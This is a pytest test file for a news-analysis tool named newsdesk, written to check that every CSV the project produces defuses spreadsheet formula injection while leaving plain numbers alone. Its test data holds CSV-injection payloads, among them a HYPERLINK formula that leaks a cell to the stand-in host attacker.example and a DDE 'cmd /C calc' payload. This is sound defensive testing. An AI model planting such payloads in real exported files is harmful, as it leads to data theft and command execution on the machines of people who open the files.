"""CSV injection: every CSV the project writes (export, CLI listings, web downloads) defuses
cells a spreadsheet would run as a formula, and leaves plain numbers alone."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from newsdesk.api import Desk
from newsdesk.cli import cli
from newsdesk.csvout import FORMULA_START, safe_cell
from newsdesk.web import create_app

HOSTILE_TITLES = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")',
    "+cmd|' /C calc'!A0 talks resume in the capital",
    "-2+3 negotiators walk out of the ministry",
    "@SUM(1+1) ceasefire holds for a second night",
    "\tTabbed headline about the harbour strike",
    "\rCarriage return headline about the dam",
]
BODY = ("Negotiators met again in the capital on Monday to discuss the harbour strike and the dam. "
        "Officials said 40 people attended and the talks would resume on Tuesday.")


def _records() -> list[dict]:
    out = []
    for i, title in enumerate(HOSTILE_TITLES):
        out.append({"id": f"h{i}", "title": title, "outlet": "@SUM(A1:A9)" if i % 2 else "=1+1 Gazette",
                    "authors": ["=Evil Author"], "text": f"{'=cmd' if i == 0 else 'Report'} {i}. {BODY}"})
    out.append({"id": "n1", "title": "-12.5", "outlet": "+7", "text": f"A plain number title. {BODY}"})
    return out


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    tmp = tmp_path_factory.mktemp("csv")
    src = tmp / "hostile.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _records()), encoding="utf-8")
    db = str(tmp / "h.db")
    with Desk(db) as desk:
        assert len(desk.ingest([str(src)]).added) == len(HOSTILE_TITLES) + 1
        desk.analyze()
    return db


def _assert_safe(text: str, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) >= 2, where
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a plain number may start with a formula character
    return rows


def _read(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as fh:  # a cell may hold a bare CR
        return fh.read()


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def test_safe_cell_quotes_formulas_and_keeps_numbers() -> None:
    for title in HOSTILE_TITLES:
        assert safe_cell(title) == "'" + title
    assert safe_cell("-12.5") == "-12.5" and safe_cell("+7") == "+7" and safe_cell("1e-3") == "1e-3"
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell("plain text") == "plain text"
    assert safe_cell("- a dash list item") == "'- a dash list item"
    assert safe_cell(["=a"]) == '["=a"]'  # JSON of a list starts with "[": nothing to run


def test_export_csv_defuses_hostile_cells(hostile_db: str, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    result = CliRunner().invoke(cli, ["export", "--db", hostile_db, "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _assert_safe(_read(out / "articles.csv"), "articles.csv")
    cells = _cells(rows)
    assert {"'" + t for t in HOSTILE_TITLES} <= cells
    assert {"'@SUM(A1:A9)", "'=1+1 Gazette", "-12.5", "+7"} <= cells
    assert any(c.startswith("'=cmd 0.") for c in cells), "the body is defused too"
    for path in out.glob("*.csv"):
        if len(_read(path).splitlines()) >= 2:
            _assert_safe(_read(path), path.name)


def test_cli_listings_csv_defuse_hostile_cells(hostile_db: str) -> None:
    for command in (["articles"], ["stories"]):
        result = CliRunner().invoke(cli, [*command, "--db", hostile_db, "--csv"])
        assert result.exit_code == 0, result.output
        rows = _assert_safe(result.output, command[0])
        if command == ["articles"]:
            assert {"'" + t for t in HOSTILE_TITLES} <= _cells(rows)


def test_web_csv_downloads_defuse_hostile_cells(hostile_db: str) -> None:
    client = TestClient(create_app(hostile_db))
    rows = _assert_safe(client.get("/api/articles.csv").text, "/api/articles.csv")
    assert {"'" + t for t in HOSTILE_TITLES} <= _cells(rows)
    stories = client.get("/api/stories").json()
    _assert_safe(client.get("/api/stories.csv").text, "/api/stories.csv")
    _assert_safe(client.get("/api/search.csv?q=negotiators").text, "/api/search.csv")
    sid = stories[0]["id"]
    for kind in ("facts", "timeline"):
        text = client.get(f"/api/stories/{sid}/{kind}.csv").text
        if len(text.splitlines()) >= 2:
            _assert_safe(text, kind)
